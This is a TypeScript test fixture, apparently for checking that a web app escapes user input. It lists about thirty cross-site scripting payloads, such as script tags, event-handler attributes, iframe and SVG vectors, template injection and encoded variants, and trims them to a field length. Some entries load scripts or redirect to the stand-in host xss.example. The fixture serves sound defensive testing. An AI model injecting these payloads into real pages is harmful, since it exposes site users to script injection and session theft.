/** Markup that would do something in a page that took it for markup; all of it marks `xss`, or asks `xss.example`. */
const MARKUP = [
  '<img src=x onerror="globalThis.xss=1">',
  '<script>globalThis.xss=1</script>',
  '"><script src=//xss.example/x.js></script>',
  "'><svg onload=globalThis.xss=1>",
  '<svg><animate onbegin=globalThis.xss=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
  '<iframe src="javascript:parent.xss=1"></iframe>',
  '<object data="https://xss.example/x"></object>',
  '<embed src="https://xss.example/x">',
  '<img src="https://xss.example/x">',
  '<link rel=stylesheet href=https://xss.example/x>',
  '<style>@import "https://xss.example/x"</style>',
  '<base href="https://xss.example/">',
  '<meta http-equiv=refresh content="0;url=https://xss.example/">',
  '<form action=https://xss.example><input name=x autofocus onfocus=globalThis.xss=1></form>',
  '<details open ontoggle=globalThis.xss=1>',
  '<video><source onerror=globalThis.xss=1></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.xss=1>',
  '</p></li></ul></main><h1 id=main>gone</h1>',
  '</textarea><script>alert(1)</script>',
  '<a href="javascript:globalThis.xss=1">press</a>',
  'javascript:globalThis.xss=1',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("globalThis.xss=1")()}}',
  '${globalThis.xss=1}',
  '&lt;script&gt;globalThis.xss=1&lt;/script&gt;',
  '&#x3c;img src=x onerror=globalThis.xss=1&#x3e;',
  '<!--<img src="--><img src=x onerror=globalThis.xss=1//">',
  '{"__html":"<img src=x onerror=globalThis.xss=1>"}',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];

/** The longest that every field takes, in letters. */
const LONGEST = 110;

/** These strings, and the markup, each no longer than any field takes. */
export function hostileTexts(naughty: readonly string[]): readonly string[] {
  const cut = [...MARKUP, ...naughty].map((text) => [...text].slice(0, LONGEST).join(''));
  return [...new Set(cut)];
}
